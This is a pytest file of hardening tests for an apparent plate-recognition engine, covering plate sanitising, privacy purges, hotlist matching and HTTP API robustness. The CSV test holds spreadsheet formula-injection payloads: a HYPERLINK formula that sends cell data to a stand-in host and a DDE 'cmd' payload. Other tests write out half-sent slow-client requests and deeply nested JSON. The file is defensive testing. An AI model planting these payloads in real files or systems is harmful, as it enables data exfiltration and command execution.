"""Issue 15, the store / hotlist / privacy / HTTP API half: each fault as it was reproduced
against a running engine, now refused or contained (on SQLite and a real PostgreSQL, a real
Mosquitto and a real loopback socket where the fault needs one)."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import logging
import socket
from collections.abc import AsyncIterator, Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import hypothesis
import pytest
import sqlalchemy as sa
from aiohttp.test_utils import TestClient
from hypothesis import strategies as st

from rufina_alpr import privacy, traffic
from rufina_alpr.api.app import start_api
from rufina_alpr.api.context import Timeouts
from rufina_alpr.config import settings_from_mapping
from rufina_alpr.contract import Topics
from rufina_alpr.csv_cells import FORMULA_START, safe_cell, unescape_cell
from rufina_alpr.engine.app import Engine
from rufina_alpr.hotlists import IMPORT_CHUNK, HotlistMatch, Hotlists
from rufina_alpr.mqtt import Message, MqttLink
from rufina_alpr.privacy.settings import Retention
from rufina_alpr.reads import PlateRead
from rufina_alpr.recognizer import Recognizer
from rufina_alpr.sim.broker import MosquittoBroker, free_port
from rufina_alpr.stations import default_registry_path
from rufina_alpr.store import Store, hotlist_entries

from .conftest import api_client
from .test_store import NOON, add_passage, make_transit

SETTINGS = hypothesis.settings(
    max_examples=40,
    deadline=None,
    database=None,
    derandomize=True,
    suppress_health_check=[hypothesis.HealthCheck.function_scoped_fixture],
)


@pytest.fixture(params=["sqlite", "postgresql"])
def store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Store]:
    url = (
        f"sqlite:///{tmp_path / 'hardening.db'}"
        if request.param == "sqlite"
        else request.getfixturevalue("fresh_postgres_url")
    )
    opened = Store(url, worker="test/worker")
    yield opened
    opened.close()


def _loud(caplog: pytest.LogCaptureFixture) -> str:
    """What was logged at INFO or above (where plates must never appear)."""
    return "\n".join(r.getMessage() for r in caplog.records if r.levelno >= logging.INFO)


# ----------------------------------------------------------------------- 1. NUL in a plate
def test_nul_in_frigate_text_is_stored_clean_and_counted_without_the_plate(
    store: Store, caplog: pytest.LogCaptureFixture
) -> None:
    """Frigate's API takes any plate text: on PostgreSQL a NUL failed the insert (the transit was
    lost) and the error, with the plate, was logged at ERROR."""
    transit = make_transit("e-nul", frigate_plate="ZQ9\x0087XK")
    read = PlateRead(text="ZQ987XK", char_confidences=(0.9,) * 7, region="It\x00aly")
    with caplog.at_level(logging.DEBUG):
        assert store.add_transit(transit, [read])
        assert add_passage(store, "e-unread", "unread", reason="no plate: ZQ9\x0087XK")
    stored = store.transit(transit.id)
    assert stored is not None and stored.frigate_plate == "ZQ987XK"
    assert store.metrics.snapshot()["store_text_cleaned"] == 3
    assert "ZQ9" not in caplog.text
    assert "control characters removed from the Frigate plate of transit" in _loud(caplog)


def test_any_frigate_text_is_stored(store: Store) -> None:
    """Whatever text Frigate sends as its plate or region, the transit is stored."""
    seen: set[str] = set()

    @SETTINGS
    @hypothesis.given(plate=st.text(max_size=30), region=st.text(max_size=60))
    def check(plate: str, region: str) -> None:
        event = f"e-{len(seen)}"
        seen.add(event)
        transit = make_transit(event, frigate_plate=plate)
        read = PlateRead(text="AB123CD", char_confidences=(0.9,) * 7, region=region)
        assert store.add_transit(transit, [read])
        stored = store.transit(transit.id)
        assert stored is not None
        assert all(ord(ch) >= 32 and ch != "\x7f" for ch in stored.frigate_plate or "")

    check()


# ----------------------------------------------------------------------- 6. SQLite secure_delete
def test_purged_plates_do_not_linger_in_the_sqlite_files(tmp_path: Path) -> None:
    """Deleted rows stayed readable in SQLite's free pages (and in its WAL) after the purge."""
    path = tmp_path / "purged.db"
    sqlite = Store(f"sqlite:///{path}", worker="test/worker")
    for number in range(50):
        assert sqlite.add_transit(make_transit(f"e-{number}", plate=f"QZ{number:03d}WK"), [])
    report = privacy.purge(sqlite, NOON + timedelta(days=30), Retention())
    assert report.transits == 50
    files = [path, path.with_name(path.name + "-wal")]
    data = b"".join(f.read_bytes() for f in files if f.exists())
    sqlite.close()
    assert b"QZ0" not in data


# ----------------------------------------------------------------------- 2. hotlist alternatives
def test_a_weak_alternative_raises_no_confident_alert(store: Store) -> None:
    """A runner-up read at 0.17 matched a stolen car and was alerted at 0.9 on another car."""
    hotlists = Hotlists(store, fuzzy_min_score=0.8)
    hotlists.create_list("stolen", "Rubati", "stolen", created_by="test")
    hotlists.add_entry("stolen", "GA456BC", "furto", added_by="test")
    assert hotlists.match("CA458BC", [("GA456BC", 0.17)], "st_a", NOON) == []

    @SETTINGS
    @hypothesis.given(
        score=st.floats(min_value=0.0, max_value=1.0),
        text=st.sampled_from(["GA456BC", "6A456BC", "GA456B", "GA4568C"]),
    )
    def check(score: float, text: str) -> None:
        for found in hotlists.match("ZZ999ZZ", [(text, score)], "st_a", NOON):
            assert found.score <= score
            assert found.score >= hotlists.fuzzy_min_score

    check()


# ----------------------------------------------------------------------- 4. retained last / crop
async def _retained(broker: MosquittoBroker, link: MqttLink, topics: Topics) -> dict[str, bytes]:
    """The retained `last` and `crop` messages a fresh subscriber gets: those that reach it before
    a marker published after its subscription (the broker sends retained messages first)."""
    received: dict[str, bytes] = {}
    marker = asyncio.Event()

    def keep(message: Message) -> None:
        if message.topic == topics.station_last("zz_marker"):
            marker.set()
        elif not marker.is_set() and message.payload:
            received[message.topic] = message.payload
        elif not marker.is_set():  # a deletion that reached it live, after the old message
            received.pop(message.topic, None)

    subscriber = MqttLink(
        host=broker.host,
        port=broker.port,
        client_id="test-retained",
        subscriptions=((f"{topics.prefix}/+/+", 1),),  # one filter: its retained come at once
        on_message=keep,
        manual_ack=False,
        clean_session=True,
    )
    await subscriber.start()
    try:
        await asyncio.wait_for(subscriber.connected.wait(), 10)
        for _ in range(50):  # until the subscription is surely in place
            await link.publish(topics.station_last("zz_marker"), b"marker")
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(marker.wait(), 0.2)
                break
    finally:
        await subscriber.stop()
    assert marker.is_set()
    return received


async def test_the_purge_clears_retained_messages_of_purged_transits(
    mosquitto: MosquittoBroker, tmp_path: Path
) -> None:
    """`<prefix>/<station>/last` and `crop` kept a purged plate on the broker forever."""
    sqlite = Store(f"sqlite:///{tmp_path / 'retained.db'}", worker="test/worker")
    topics = Topics("rufina_alpr")
    link = MqttLink(host=mosquitto.host, port=mosquitto.port, client_id="test-engine")
    await link.start()
    try:
        await asyncio.wait_for(link.connected.wait(), 10)
        old, recent = NOON - timedelta(days=10), NOON - timedelta(hours=1)
        shown = [("e-a", "st_a", old), ("e-b1", "st_b", old), ("e-b2", "st_b", recent)]
        for event, station, moment in shown:
            transit = make_transit(event, station=station, moment=moment)
            assert sqlite.add_transit(transit, [])
            await link.publish(topics.station_last(station), transit.id.encode(), retain=True)
            await link.publish(topics.station_crop(station), b"jpeg", retain=True)
        report = privacy.purge(sqlite, NOON, Retention())
        assert (report.transits, report.cleared_stations) == (2, ("st_a",))
        privacy.clear_retained(link, topics, report.cleared_stations)
        left = await _retained(mosquitto, link, topics)
    finally:
        await link.stop()
        sqlite.close()
    assert left == {
        topics.station_last("st_b"): make_transit("e-b2", station="st_b").id.encode(),
        topics.station_crop("st_b"): b"jpeg",
    }


# ----------------------------------------------------------------------- the API on a real port
ADMIN = "hardening-admin-token-0123456789abc"
OPERATOR = "hardening-operator-token-012345678"
AS_ADMIN = {"Authorization": f"Bearer {ADMIN}"}
AS_OPERATOR = {"Authorization": f"Bearer {OPERATOR}"}
REASON = {"reason": "incident 2026/15 on via Roma"}


@pytest.fixture
async def engine(tmp_path: Path, recognizer: Recognizer) -> AsyncIterator[Engine]:
    settings = settings_from_mapping(
        {
            "data_dir": str(tmp_path),
            "timezone": "Europe/Rome",
            "api": {
                "token": ADMIN,
                "port": free_port(),
                "users": [{"name": "agente.rossi", "token": OPERATOR, "role": "operator"}],
            },
            "stations_file": str(default_registry_path()),
        }
    )
    running = Engine(settings, recognizer)
    yield running
    await running.stop(drain_timeout=0)


@pytest.fixture
async def client(engine: Engine) -> AsyncIterator[TestClient[Any, Any]]:
    async with api_client(engine) as test_client:
        yield test_client


def _entries(store: Store) -> int:
    with store.engine.connect() as connection:
        return int(connection.scalar(sa.select(sa.func.count()).select_from(hotlist_entries)) or 0)


# ----------------------------------------------------------------------- 5. large hotlist import
async def test_transits_are_stored_while_a_large_import_runs(
    engine: Engine, client: TestClient[Any, Any]
) -> None:
    """A 100k-row import held the single store thread ~50 s: no transit was stored meanwhile."""
    hotlists = engine.hotlists
    await engine.db.run(lambda: hotlists.create_list("stolen", "Rubati", "stolen", created_by="t"))
    assert await engine.db.run(hotlists.match, "XK00001Q", [], "st_a", NOON) == []  # index built
    rows = 20 * IMPORT_CHUNK
    text = "plate,reason\n" + "".join(f"XK{n:05d}Q,furto\n" for n in range(rows))
    importing = asyncio.ensure_future(
        client.post(
            "/api/v1/hotlists/stolen/import",
            data=text,
            params=REASON,
            headers={**AS_OPERATOR, "Content-Type": "text/csv"},
        )
    )
    # Store-thread calls of their own: with the import in one call, the first that sees an
    # entry sees them all.
    for _ in range(100_000):
        if importing.done() or await engine.db.run(_entries, engine.store):
            break
        await asyncio.sleep(0.01)

    def store_a_transit() -> tuple[bool, list[HotlistMatch], int]:
        transit = make_transit("e-during-import", plate="XK00001Q")
        stored = engine.store.add_transit(transit, [])
        matches = hotlists.match(transit.plate, [], transit.station_id, transit.time)
        return stored, matches, _entries(engine.store)

    stored, matches, entries_then = await engine.db.run(store_a_transit)
    response = await importing
    assert response.status == 200, await response.text()
    assert (await response.json())["added"] == rows
    assert stored
    assert 0 < entries_then < rows, "the transit was stored after the whole import"
    assert matches == [], "during an import, matching meets the lists as they were"
    after = await engine.db.run(hotlists.match, "XK00001Q", [], "st_a", NOON)
    assert (after[0].entry_plate, after[0].match) == ("XK00001Q", "exact")


# ----------------------------------------------------------------------- 6. CSV formula injection
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"ok")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


async def test_exported_csv_cells_never_start_a_formula(
    engine: Engine, client: TestClient[Any, Any]
) -> None:
    """A hotlist note `=HYPERLINK(...)` was exported as a live spreadsheet formula."""
    hotlists = engine.hotlists
    await engine.db.run(lambda: hotlists.create_list("watch", "Watch", "watch", created_by="t"))
    for number, formula in enumerate(FORMULAS):
        entry = {"plate": f"FX{number:03d}AA", "reason": formula, "notes": formula}
        response = await client.post(
            "/api/v1/hotlists/watch/entries", json=entry, headers=AS_OPERATOR
        )
        assert response.status == 201, await response.text()
    exported = await client.get("/api/v1/hotlists/watch/export", params=REASON, headers=AS_OPERATOR)
    text = await exported.text()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    # Read back, the export gives the same entries.
    await engine.db.run(lambda: hotlists.create_list("copy", "Copy", "watch", created_by="t"))
    await engine.db.run(lambda: hotlists.import_csv("copy", text, added_by="t"))
    copied = await engine.db.run(hotlists.entries, "copy")
    assert sorted(e.notes or "" for e in copied) == sorted(f.strip() for f in FORMULAS)
    counts = traffic.to_csv(
        [traffic.TrafficCount("=cmd|' /C calc'!A0", "1h", NOON, "-car", "@in", 3)]
    )
    assert not [c for row in csv.reader(io.StringIO(counts)) for c in row if c[:1] in "=+-@"]


@SETTINGS
@hypothesis.given(text=st.text())
def test_escaped_cells_round_trip(text: str) -> None:
    escaped = safe_cell(text)
    assert not escaped.startswith(FORMULA_START)
    assert unescape_cell(escaped) == text


# ----------------------------------------------------------------------- 3. slow clients
FAST = Timeouts(idle=1.0, body=1.0, lingering=0.5)
HALF_SENT = {
    "headers": b"GET /api/health HTTP/1.1\r\nHost: x\r\nAccept: */",
    "body": (
        b"POST /api/v1/holds HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "
        + ADMIN.encode()
        + b"\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{"
    ),
    "idle keep-alive": b"GET /api/health HTTP/1.1\r\nHost: x\r\n\r\n",
}


def _until_closed(port: int, data: bytes) -> bytes:
    """Send ``data`` and read until the server closes the connection (a socket error if it
    does not within 15 s: the bound on what any timeout here may take)."""
    with socket.create_connection(("127.0.0.1", port), timeout=15) as sock:
        sock.sendall(data)
        answer = b""
        while chunk := sock.recv(4096):
            answer += chunk
    return answer


@pytest.mark.parametrize("stage", list(HALF_SENT))
async def test_slow_or_idle_connections_are_closed(engine: Engine, stage: str) -> None:
    """Half-sent requests and idle keep-alive connections were held open forever (fd exhaustion)."""
    runner = await start_api(engine, timeouts=FAST)
    try:
        answer = await asyncio.to_thread(_until_closed, engine.settings.api.port, HALF_SENT[stage])
    finally:
        await runner.cleanup()
    expected = {"headers": b"", "body": b"HTTP/1.1 408 ", "idle keep-alive": b"HTTP/1.1 200 "}
    assert answer.startswith(expected[stage]), answer[:80]


# ----------------------------------------------------------------------- 6. bad input
async def test_non_ascii_authorization_is_a_401_and_logs_no_token(
    engine: Engine, caplog: pytest.LogCaptureFixture
) -> None:
    """A non-ASCII bearer token was a 500 whose ERROR traceback carried the token."""
    runner = await start_api(engine, timeouts=FAST)
    request = "GET /api/v1/info HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sëcrét-tökèn\r\n"
    try:
        with caplog.at_level(logging.DEBUG):
            answer = await asyncio.to_thread(
                _until_closed,
                engine.settings.api.port,
                request.encode("latin-1") + b"Connection: close\r\n\r\n",
            )
    finally:
        await runner.cleanup()
    assert answer.startswith(b"HTTP/1.1 401 "), answer[:80]
    assert "tök" not in caplog.text and "t\udcf6k" not in caplog.text


@pytest.mark.parametrize("nesting", ["[", '{"a":'])
async def test_deeply_nested_json_is_a_400(client: TestClient[Any, Any], nesting: str) -> None:
    """A body nested 100,000 levels deep raised RecursionError: a 500."""
    closing = "]" if nesting == "[" else "}"
    body = nesting * 100_000 + "1" + closing * 100_000
    for path in ("/api/v1/holds", "/api/v1/hotlists"):
        response = await client.post(
            path, data=body, headers={**AS_ADMIN, "Content-Type": "application/json"}
        )
        assert response.status == 400, (path, await response.text())


async def test_hold_by_plate_probes_are_audited(
    engine: Engine, client: TestClient[Any, Any]
) -> None:
    """Asking for a hold on a plate told whether it had transits, and left no audit entry."""
    assert engine.store.add_transit(make_transit("e-held", plate="HL123DX", moment=NOON), [])
    for plate, status in (("HL123DX", 201), ("NO000NE", 404)):
        body = {
            "case_number": "2026/15",
            "reason": "probe test",
            "plate": plate,
            "since": (NOON - timedelta(hours=1)).isoformat(),
            "until": (NOON + timedelta(hours=1)).isoformat(),
        }
        response = await client.post("/api/v1/holds", json=body, headers=AS_OPERATOR)
        assert response.status == status, await response.text()
    log = await engine.db.run(lambda: privacy.Audit(engine.store).entries(action="hold_search"))
    assert [(e.query["plate"], e.results, e.actor) for e in reversed(log)] == [
        ("HL123DX", 1, "agente.rossi"),
        ("NO000NE", 0, "agente.rossi"),
    ]
